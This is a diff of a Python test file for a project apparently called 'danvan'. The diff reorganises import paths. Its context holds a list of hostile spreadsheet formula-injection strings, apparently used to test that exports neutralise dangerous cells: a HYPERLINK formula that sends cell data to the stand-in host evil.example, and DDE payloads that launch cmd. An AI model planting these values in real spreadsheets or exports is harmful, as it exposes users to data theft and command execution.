@@ -9,12 +9,12 @@ import openpyxl
 import pytest
 
 from danvan.cells import DANGEROUS
+from danvan.export import export_assignments
 from danvan.graph.embedded import EmbeddedStore
 from danvan.graph.store import Store
-from danvan.loaders.admin_units import admin_units
-from danvan.loaders.export import export_assignments
-from danvan.loaders.generator import national_dataset, write_dataset
-from danvan.loaders.spreadsheets import import_file
+from danvan.loaders.reference.admin_units import admin_units
+from danvan.loaders.spreadsheets.load import import_file
+from danvan.loaders.synthetic.generator import national_dataset, write_dataset
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
